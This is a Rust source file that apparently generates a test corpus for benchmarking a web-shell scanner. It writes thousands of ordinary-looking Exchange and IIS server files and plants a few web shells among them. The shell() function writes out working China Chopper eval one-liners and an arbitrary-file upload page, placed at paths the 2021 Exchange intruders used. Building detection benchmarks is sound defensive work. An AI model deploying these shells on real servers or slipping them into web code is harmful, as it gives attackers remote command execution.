//! A large tree of ordinary server files with a few web shells among them,
//! for the file-sweep benchmark (`exhunt scan` beside `yr scan`).
//!
//! The mix imitates what a sweep of an Exchange server's drive meets: ASP.NET
//! pages of intranet sites, JavaScript and CSS bundles, images, .NET
//! assemblies, configuration and resource files, in folders laid out like
//! `inetpub`, `Program Files` and `ProgramData`. Sizes follow a skewed
//! distribution (most files a few kilobytes, some hundreds). Exchange's own
//! web folders get resource files only (no pages), so the benchmark measures
//! reading and matching rather than a flood of location findings.
//!
//! Every `SHELL_EVERY`th file is a web shell written from the public
//! descriptions (China Chopper forms, an upload page, a command page); their
//! paths are returned so that the benchmark can check all were found.

use crate::rng::SplitMix64;
use crate::tree::{Planted, Summary};
use std::io;
use std::path::Path;

/// One file in this many is a web shell.
pub const SHELL_EVERY: usize = 5_000;

const SITES: &[&str] = &[
    "inetpub/wwwroot/intranet",
    "inetpub/wwwroot/helpdesk",
    "inetpub/sites/hr-portal",
    "inetpub/sites/timesheets",
    "Program Files/Contoso/WebApps/Reports",
];

const EXCHANGE_RES: &[&str] = &[
    "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2507/themes/resources",
    "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2507/scripts/premium",
    "Program Files/Microsoft/Exchange Server/V15/ClientAccess/Owa/prem/15.1.2507/scripts",
    "Program Files/Microsoft/Exchange Server/V15/ClientAccess/ecp/15.1.2507/themes/default",
];

const OTHER: &[&str] = &[
    "Program Files/Contoso/Agent/bin",
    "ProgramData/Contoso/Cache",
    "Windows/Microsoft.NET/assembly/GAC_MSIL/Contoso.Common",
    "Users/Public/Documents",
];

const WORDS: &[&str] = &[
    "customer",
    "invoice",
    "report",
    "summary",
    "department",
    "request",
    "status",
    "update",
    "session",
    "profile",
    "settings",
    "calendar",
    "meeting",
    "mailbox",
    "archive",
    "service",
    "approval",
    "employee",
    "timesheet",
    "project",
    "budget",
    "account",
    "display",
    "options",
];

/// Writes about `count` files under `dir`. Returns what was written, with
/// the web shells as `planted`.
pub fn write_file_tree(dir: &Path, count: usize, seed: u64) -> io::Result<Summary> {
    let mut rng = SplitMix64::new(seed);
    let mut sum = Summary::default();
    let mut buf = Vec::with_capacity(1 << 20);
    for i in 0..count {
        buf.clear();
        let (path, what) = if i % SHELL_EVERY == SHELL_EVERY / 2 {
            let (p, w) = shell(&mut rng, i, &mut buf);
            (p, Some(w))
        } else {
            (benign(&mut rng, i, &mut buf), None)
        };
        let full = dir.join(&path);
        if let Some(parent) = full.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&full, &buf)?;
        sum.files += 1;
        sum.bytes += buf.len() as u64;
        if let Some(what) = what {
            sum.planted.push(Planted {
                path,
                time: String::new(),
                what,
                lines: 0,
            });
        }
    }
    Ok(sum)
}

/// A skewed size: most files small, a few large.
fn size(rng: &mut SplitMix64) -> usize {
    let (lo, hi) = *rng.weighted(&[
        ((300, 4_000), 50),
        ((4_000, 32_000), 35),
        ((32_000, 256_000), 13),
        ((256_000, 1_500_000), 2),
    ]);
    rng.between(lo, hi) as usize
}

fn folder(rng: &mut SplitMix64, i: usize, roots: &[&str]) -> String {
    format!("{}/{}{}", rng.pick(roots), rng.pick(WORDS), i % 97)
}

fn benign(rng: &mut SplitMix64, i: usize, out: &mut Vec<u8>) -> String {
    let n = size(rng);
    let word = *rng.pick(WORDS);
    match rng.below(100) {
        0..=24 => {
            aspx_page(rng, n, out);
            format!("{}/{word}{i}.aspx", folder(rng, i, SITES))
        }
        25..=44 => {
            script(rng, n, out);
            let roots = if rng.chance(1, 2) {
                SITES
            } else {
                EXCHANGE_RES
            };
            format!("{}/{word}{i}.js", folder(rng, i, roots))
        }
        45..=54 => {
            css(rng, n, out);
            let roots = if rng.chance(1, 2) {
                SITES
            } else {
                EXCHANGE_RES
            };
            format!("{}/{word}{i}.css", folder(rng, i, roots))
        }
        55..=69 => {
            binary(rng, b"\x89PNG\r\n\x1a\n", n, out);
            let roots = if rng.chance(1, 2) {
                SITES
            } else {
                EXCHANGE_RES
            };
            format!("{}/{word}{i}.png", folder(rng, i, roots))
        }
        70..=82 => {
            assembly(rng, n, out);
            format!("{}/Contoso.{word}{i}.dll", folder(rng, i, OTHER))
        }
        83..=91 => {
            config(rng, n, out);
            format!("{}/{word}{i}.config", folder(rng, i, OTHER))
        }
        _ => {
            text(rng, n, out);
            format!("{}/{word}{i}.xml", folder(rng, i, OTHER))
        }
    }
}

fn words(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    for _ in 0..n {
        out.extend_from_slice(rng.pick(WORDS).as_bytes());
        out.push(b' ');
    }
}

fn aspx_page(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    let class = rng.pick(WORDS);
    out.extend_from_slice(
        format!(
            "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"{class}.aspx.cs\" Inherits=\"Contoso.Web.{class}Page\" %>\r\n<!DOCTYPE html>\r\n<html>\r\n<head runat=\"server\"><title>{class}</title>\r\n<link rel=\"stylesheet\" href=\"/styles/site.css\" /></head>\r\n<body>\r\n<form id=\"form1\" runat=\"server\">\r\n"
        )
        .as_bytes(),
    );
    while out.len() < n {
        let w = rng.pick(WORDS);
        let id = rng.letters(6);
        match rng.below(5) {
            0 => out.extend_from_slice(
                format!("<asp:Label ID=\"lbl{id}\" runat=\"server\" Text=\"<%$ Resources:Strings, {w} %>\" />\r\n").as_bytes(),
            ),
            1 => out.extend_from_slice(
                format!("<asp:TextBox ID=\"txt{id}\" runat=\"server\" CssClass=\"{w}-input\" MaxLength=\"64\" />\r\n").as_bytes(),
            ),
            2 => out.extend_from_slice(
                format!("<div class=\"row {w}\"><%= Server.HtmlEncode(Model.{w}) %></div>\r\n").as_bytes(),
            ),
            3 => out.extend_from_slice(
                format!("<script type=\"text/javascript\">document.getElementById('{id}').addEventListener('click', function () {{ toggle('{w}'); }});</script>\r\n").as_bytes(),
            ),
            _ => {
                out.extend_from_slice(b"<p>");
                words(rng, 12, out);
                out.extend_from_slice(b"</p>\r\n");
            }
        }
    }
    out.extend_from_slice(b"</form>\r\n</body>\r\n</html>\r\n");
}

fn script(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(b"/*! contoso.bundle.js */\n\"use strict\";\n");
    while out.len() < n {
        let w = rng.pick(WORDS);
        let a = rng.letters(3);
        out.extend_from_slice(
            format!(
                "function {w}_{a}(e,t){{var n=e.{w}||{{}};if(!t){{return n}}for(var r=0;r<t.length;r++){{n[t[r].id]=t[r].value}}return JSON.stringify(n)}}\n"
            )
            .as_bytes(),
        );
    }
}

fn css(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    while out.len() < n {
        let w = rng.pick(WORDS);
        let c = rng.hex(6);
        out.extend_from_slice(
            format!(".{w}-panel > .header {{ color: #{c}; margin: 0 4px; font-family: \"Segoe UI\", sans-serif; }}\n").as_bytes(),
        );
    }
}

fn binary(rng: &mut SplitMix64, magic: &[u8], n: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(magic);
    while out.len() < n {
        out.extend_from_slice(&rng.next_u64().to_le_bytes());
    }
}

/// A PE-like .NET assembly: MZ header, code-like bytes, a string heap of
/// UTF-16 literals and ASCII names.
fn assembly(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00");
    out.extend_from_slice(&[0u8; 48]);
    out.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$\x00\x00\x00PE\x00\x00");
    while out.len() < n {
        if rng.chance(1, 4) {
            for ch in format!("{}.{}", rng.pick(WORDS), rng.pick(WORDS)).bytes() {
                out.push(ch);
                out.push(0);
            }
        } else if rng.chance(1, 3) {
            out.extend_from_slice(
                format!(
                    "get_{}\0set_{}\0System.Collections.Generic\0",
                    rng.pick(WORDS),
                    rng.pick(WORDS)
                )
                .as_bytes(),
            );
        } else {
            out.extend_from_slice(&rng.next_u64().to_le_bytes());
            out.extend_from_slice(&rng.next_u64().to_le_bytes());
        }
    }
}

fn config(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(
        b"<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <appSettings>\r\n",
    );
    while out.len() < n {
        let w = rng.pick(WORDS);
        out.extend_from_slice(
            format!(
                "    <add key=\"{w}.{}\" value=\"{}\" />\r\n",
                rng.letters(5),
                rng.hex(8)
            )
            .as_bytes(),
        );
    }
    out.extend_from_slice(b"  </appSettings>\r\n</configuration>\r\n");
}

fn text(rng: &mut SplitMix64, n: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(b"<?xml version=\"1.0\"?>\n<items>\n");
    while out.len() < n {
        out.extend_from_slice(b"  <item>");
        words(rng, 8, out);
        out.extend_from_slice(b"</item>\n");
    }
    out.extend_from_slice(b"</items>\n");
}

/// A web shell in one of the places the 2021 intruders used, in one of
/// the published forms. Returns (path, what).
fn shell(rng: &mut SplitMix64, i: usize, out: &mut Vec<u8>) -> (String, &'static str) {
    let name = format!("{}.aspx", rng.letters(8));
    let pass = rng.letters(6);
    let place = *rng.pick(&[
        "inetpub/wwwroot/aspnet_client/system_web",
        "inetpub/wwwroot/aspnet_client",
        "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth",
        "inetpub/sites/hr-portal/uploads",
    ]);
    let what = match i / SHELL_EVERY % 3 {
        0 => {
            out.extend_from_slice(
                format!(
                    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{pass}\"],\"unsafe\");%>"
                )
                .as_bytes(),
            );
            "chopper-jscript"
        }
        1 => {
            out.extend_from_slice(
                format!(
                    "<script language=\"JScript\" runat=\"server\">function Page_Load(){{eval(Request[\"{pass}\"],\"unsafe\");}}</script>"
                )
                .as_bytes(),
            );
            "chopper-script-block"
        }
        _ => {
            out.extend_from_slice(
                b"<%@ Page Language=\"C#\" %>\r\n<% if (Request.Files.Count != 0) { Request.Files[0].SaveAs(Server.MapPath(Request[\"f\"])); } %>\r\n",
            );
            "upload-page"
        }
    };
    (format!("{place}/{name}"), what)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_with_shells_in_their_places() {
        let a = tempdir("a");
        let b = tempdir("b");
        let sa = write_file_tree(&a, 12_000, 7).unwrap();
        let sb = write_file_tree(&b, 12_000, 7).unwrap();
        assert_eq!(sa.bytes, sb.bytes);
        assert_eq!(sa.files, 12_000);
        assert_eq!(sa.planted.len(), 2);
        for p in &sa.planted {
            let text = std::fs::read_to_string(a.join(&p.path)).unwrap();
            assert!(text.contains("Request"), "{}", p.path);
            assert!(p.path.ends_with(".aspx"));
        }
        std::fs::remove_dir_all(&a).unwrap();
        std::fs::remove_dir_all(&b).unwrap();
    }

    fn tempdir(tag: &str) -> std::path::PathBuf {
        let d =
            std::env::temp_dir().join(format!("exhunt-testgen-files-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        d
    }
}
